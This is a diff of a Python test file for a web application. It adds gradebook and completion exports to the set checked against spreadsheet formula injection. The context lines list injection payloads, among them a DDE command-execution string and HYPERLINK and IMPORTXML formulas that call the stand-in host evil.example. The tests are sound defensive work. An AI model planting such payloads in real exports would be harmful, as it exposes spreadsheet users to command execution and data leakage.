@@ -148,7 +148,9 @@ def test_a_figure_of_a_billion_laughs_is_refused_before_it_is_read():
 FORMULAS = ("=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "'=1+1",
             "''=1+1", '=HYPERLINK("http://evil.example";"x")', '"=1+1', "=1+1;x", "-@x", "+A1", '=IMPORTXML("http://evil.example","//a")')
 EXPORTS = {"cohorts.roster_file", "cohorts.refused_rows", "cohorts.template",
-           "grading.figures_csv"}                   # tests/web/test_statistics.py
+           "grading.figures_csv",                   # tests/web/test_statistics.py
+           "gradebook.sheet",                       # tests/web/test_gradebook.py
+           "completion.overall_file", "completion.everywhere_file"}         # tests/web/test_completion.py
 COMPUTED = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
 
 
